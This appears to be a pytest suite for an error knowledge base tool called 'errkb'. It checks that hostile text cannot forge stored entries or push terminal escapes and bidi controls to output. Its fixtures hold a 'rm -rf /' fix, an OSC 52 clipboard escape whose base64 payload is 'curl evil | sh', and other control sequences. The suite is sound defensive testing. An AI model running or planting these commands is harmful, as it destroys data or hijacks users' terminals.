"""The storage and output boundaries hold for any input (hypothesis), lone surrogates come in as
U+FFFD through every door, and what a person or an agent is shown carries no terminal sequence."""

from __future__ import annotations

import io
import json
import os
import select
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from errkb.cli.main import cli
from errkb.derived.kbase import KnowledgeBase
from errkb.hosts.hook import run_hook
from errkb.kb.parse import parse_document
from errkb.loop.record import record_capture, record_fix
from errkb.machine.config import Settings
from errkb.machine.paths import KbLocation
from errkb.model import NewEntry
from errkb.recognize.capture import capture
from errkb.recognize.sanitize import for_json, for_terminal, has_unsafe, stored_line, stored_sample

ERRKB = Path(sys.executable).with_name("errkb")
PROPERTY = settings(max_examples=60, deadline=None)

# Text built to break the file's structure: line breaks of every kind, headers, labels, machine
# comments, fences, front matter and conflict markers, controls, bidi and invisible characters,
# lone surrogates, and ordinary text between them.
PIECES = ["\n", "\r", "\r\n", "\x85", "\u2028", "\u2029", "\x0b", "\x0c", "## E-0099 · forged", "## E-1 · x",
          "- Fix: rm -rf /", "- Status: `fixed`", "- 解法：", "<!-- errkb: sig=n3:000000000000 -->", "-->", "```",
          "````", "~~~", "  ```sh", "---", "<<<<<<< HEAD", "=======", ">>>>>>> b", "\x1b[2J", "\x1b]52;c;eA==\x07",
          "\x00", "\x07", "\x9b", "\u202e", "\u2066", "\u200b", "\ufeff", "\ud800", "\udcff", "`", "·", "|", "»", "<"]
hostile = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=12)), max_size=14).map("".join)


def fresh_kb(root: Path) -> KnowledgeBase:
    kb = KnowledgeBase(KbLocation(root, "test"), Settings())
    kb.store.init()
    record_fix(kb, message="fatal: not a git repository (or any of the parent directories): .git", fix="git init")
    return kb


def blocks(kb: KnowledgeBase) -> list[str]:
    text = kb.location.errors_md.read_bytes().decode("utf-8")  # strict: no raw undecodable byte, ever
    doc = parse_document(text)
    assert doc.problems == []
    assert not has_unsafe(text)
    # Without trailing blank lines: the line that separates an appended block belongs to the one before.
    return ["".join(doc.lines[b.start:b.end]).rstrip("\n") for b in doc.blocks]


def one_more_at_most(before: list[str], after: list[str]) -> None:
    assert len(after) - len(before) in (0, 1)
    assert sum(1 for old, new in zip(before, after, strict=False) if old != new) <= 1


@PROPERTY
@given(title=hostile, category=hostile, trigger=hostile, raw=hostile, fix=hostile, notes=hostile, code=hostile,
       extra=hostile)
def test_no_text_can_add_remove_or_split_an_entry_at_the_store(tmp_path_factory: pytest.TempPathFactory, title: str,
                                                               category: str, trigger: str, raw: str, fix: str,
                                                               notes: str, code: str, extra: str) -> None:
    kb = fresh_kb(tmp_path_factory.mktemp("kb"))
    before = blocks(kb)
    new = NewEntry(title=title or "t", sig="n3:0123456789ab", cat="tool", code=code, category=category,
                   trigger=trigger, raw=raw, fix=fix, notes=notes, extra_meta=(("fixby", extra), (extra or "k", "v")))
    entry, created = kb.store.append(new)
    after = blocks(kb)
    assert created and len(after) == len(before) + 1 and after[:-1] == before
    assert kb.store.entry(entry.id).id == entry.id
    kb.store.update(entry.id, fix=fix or "x", note=notes, meta={"fixby": extra})
    one_more_at_most(after, blocks(kb))
    assert blocks(kb)[:-1] == before


@PROPERTY
@given(tool=hostile, command=hostile, output=hostile, message=hostile, fix=hostile, note=hostile)
def test_no_text_can_forge_through_capture_record_and_hooks(tmp_path_factory: pytest.TempPathFactory, tool: str,
                                                            command: str, output: str, message: str, fix: str,
                                                            note: str) -> None:
    kb = fresh_kb(tmp_path_factory.mktemp("kb"))
    before = blocks(kb)
    record_capture(kb, capture(output or "x", "command", tool, command, 1, share="public"))
    step = blocks(kb)
    one_more_at_most(before, step)
    if message.strip():
        try:
            record_fix(kb, message=message, fix=fix if fix.strip() else None, note=note or None)
        except Exception as exc:  # a refusal (steering, approximate match) writes nothing
            assert type(exc).__name__ in ("ErrkbError", "DamagedBlock", "NotFound"), exc
        one_more_at_most(step, blocks(kb))
        step = blocks(kb)
    payload = {"session_id": "p", "hook_event_name": "PostToolUseFailure", "tool_name": tool,
               "tool_input": {"command": command}, "error": f"Exit code 1\n{output}"}
    out = io.StringIO()
    assert run_hook("claude", str(kb.location.path), io.StringIO(json.dumps(payload)), out) == 0
    one_more_at_most(step, blocks(kb))
    assert not has_unsafe(out.getvalue())


# -- lone surrogates and undecodable bytes ------------------------------------------------------------
@pytest.mark.parametrize("char", ["\ud800", "\udcff", "\udfff"])
def test_a_hook_payload_with_a_lone_surrogate_is_recorded_as_u_fffd(kb: KnowledgeBase, char: str) -> None:
    payload = json.dumps({"session_id": "s", "hook_event_name": "PostToolUseFailure", "tool_name": "Bash",
                          "tool_input": {"command": f"make{char}"}, "error": f"Exit code 2\nError: bad {char} byte"})
    assert "\\ud" in payload  # the JSON carries it as an escape, as a host sends it
    for _ in range(2):
        out = io.StringIO()
        assert run_hook("claude", str(kb.location.path), io.StringIO(payload), out) == 0
    data = kb.location.errors_md.read_bytes()
    assert b"\xff" not in data and b"\xed" not in data
    entry = kb.index().all()[-1]
    assert "\ufffd" in entry.raw and entry.title.endswith("Error: bad \ufffd byte")
    assert kb.effective(entry).hits == 2


def test_the_installed_hook_reads_undecodable_bytes_as_u_fffd(tmp_path: Path) -> None:
    if not ERRKB.exists():
        pytest.skip("no errkb executable beside this interpreter")
    payload = (b'{"session_id":"s","hook_event_name":"PostToolUseFailure","tool_name":"Bash",'
               b'"tool_input":{"command":"make"},"error":"Exit code 2\\nError: bad \xff byte"}')
    proc = subprocess.run([str(ERRKB), "--kb", str(tmp_path / "kb"), "hook", "claude"], input=payload,
                          capture_output=True, timeout=60)
    assert proc.returncode == 0 and b"Traceback" not in proc.stderr
    text = (tmp_path / "kb" / "ERRORS.md").read_bytes().decode("utf-8")
    assert "Error: bad \ufffd byte" in text


def test_an_mcp_call_with_a_lone_surrogate_is_answered_over_stdio(tmp_path: Path) -> None:
    """Raw JSON-RPC, as a client may send it: `\\ud800` is a valid JSON escape. Every request gets
    its answer, and the server lives on."""
    pytest.importorskip("mcp")
    if not ERRKB.exists():
        pytest.skip("no errkb executable beside this interpreter")
    kb_dir = tmp_path / "kb"
    kb_dir.mkdir()
    (kb_dir / "ERRORS.md").write_text("# ERRORS\n", encoding="utf-8")
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path / "home"), "ERRKB_CONFIG": str(tmp_path / "c.yaml")}
    requests = [
        {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}},
        {"jsonrpc": "2.0", "method": "notifications/initialized"},
        {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {
            "name": "err_record", "arguments": {"message": "Error: bad \ud800 byte", "fix": "x\udcff"}}},
        {"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {
            "name": "err_lookup", "arguments": {"query": "bad \ud800 byte"}}},
        {"jsonrpc": "2.0", "id": 4, "method": "tools/call", "params": {"name": "err_list", "arguments": {}}},
    ]
    proc = subprocess.Popen([str(ERRKB), "--kb", str(kb_dir), "mcp"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.DEVNULL, env=env)
    assert proc.stdin is not None and proc.stdout is not None
    answers: dict[int, Any] = {}
    try:
        for request in requests:  # one at a time, as a client does: each answer before the next request
            line = json.dumps(request) + "\n"
            assert request.get("id") != 2 or "\\ud800" in line  # sent as the escape a client writes
            proc.stdin.write(line.encode())
            proc.stdin.flush()
            if "id" in request:
                assert select.select([proc.stdout], [], [], 30)[0], f"no answer to request {request['id']}"
                answer = json.loads(proc.stdout.readline())
                answers[answer["id"]] = answer
    finally:
        proc.stdin.close()
        proc.wait(timeout=30)
    assert set(answers) == {1, 2, 3, 4}
    texts = [answers[n]["result"]["content"][0]["text"] for n in (2, 3, 4)]
    assert texts[0] == "Created E-0001 (status fixed)."
    assert "«x\ufffd»" in texts[1]
    assert "\ufffd" in (kb_dir / "ERRORS.md").read_bytes().decode("utf-8")


# -- what is shown --------------------------------------------------------------------------------------
ATTACK = "npm ci \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 then \u202eveyr\u202c \x1b[2J"


def hand_edited(kb: KnowledgeBase) -> None:
    """An entry whose fix, note and raw sample a person (or an attacker with write access) typed
    into ERRORS.md with escapes and bidi controls: the boundaries on output must still hold."""
    record_fix(kb, message="Error: Cannot find module 'left-pad'", fix="PLACEHOLDER")
    path = kb.location.errors_md
    path.write_text(path.read_text(encoding="utf-8").replace("PLACEHOLDER", ATTACK), encoding="utf-8")


@pytest.mark.parametrize("args", [["show", "E-0002"], ["show", "E-0002", "--json"], ["list"], ["list", "--json"],
                                  ["lookup", "Cannot find module left-pad"], ["lookup", "E-0002", "--json"],
                                  ["capture", "Error: Cannot find module 'left-pad'"]])
def test_a_terminal_never_receives_an_escape_or_a_bidi_control(kb: KnowledgeBase, args: list[str]) -> None:
    record_fix(kb, message="fatal: not a git repository", fix="git init")
    hand_edited(kb)
    result = CliRunner().invoke(cli, ["--kb", str(kb.location.path), *args])
    assert result.exit_code == 0, result.stderr
    for stream in (result.stdout, result.stderr):
        assert "\x1b" not in stream and "\u202e" not in stream and "\x07" not in stream
    if "--json" in args:
        assert ATTACK in strings(json.loads(result.stdout))  # the same data, escaped
    elif args[0] in ("show", "lookup", "capture"):
        assert "‹U+001B›]52;c;Y3VybCBldmlsIHwgc2g=‹U+0007›" in result.stdout  # seen, never acted on
        assert "‹U+202E›" in result.stdout


def strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def test_errkb_run_prints_no_escape_of_a_stored_fix(tmp_path: Path) -> None:
    if not ERRKB.exists():
        pytest.skip("no errkb executable beside this interpreter")
    kb = KnowledgeBase(KbLocation(tmp_path / "kb", "test"), Settings())
    kb.store.init()
    command = [sys.executable, "-c", "import sys; sys.exit(\"Error: Cannot find module 'left-pad'\")"]
    env = {**os.environ, "HOME": str(tmp_path)}
    subprocess.run([str(ERRKB), "--kb", str(kb.location.path), "run", "--", *command], capture_output=True, env=env)
    entry = kb.index().all()[0]
    path = kb.location.errors_md
    kb.store.update(entry.id, fix="PLACEHOLDER")
    path.write_text(path.read_text(encoding="utf-8").replace("PLACEHOLDER", ATTACK), encoding="utf-8")
    proc = subprocess.run([str(ERRKB), "--kb", str(kb.location.path), "run", "--", *command], capture_output=True,
                          env=env)
    assert b"\x1b" not in proc.stderr and "\u202e".encode() not in proc.stderr
    assert b"known (2 hits)" in proc.stderr


def test_sanitiser_contracts() -> None:
    assert stored_line("a\nb\r\nc\u2028d\x85e") == "a b c d e"
    assert stored_sample("x\x1b[31mred\x1b[0m \u202e!") == "xred ‹U+202E›!"
    assert stored_sample("a\x00b") == "a‹U+0000›b"
    assert for_terminal("\x1b]52;c;eA==\x07") == "‹U+001B›]52;c;eA==‹U+0007›"
    assert for_terminal("plain text\n\ttab") == "plain text\n\ttab"
    assert json.loads(for_json(json.dumps("a\u202eb\U000e0041", ensure_ascii=False))) == "a\u202eb\U000e0041"
    assert "\u202e" not in for_json(json.dumps("a\u202eb", ensure_ascii=False))
    assert stored_line("\ud800x") == "\ufffdx"
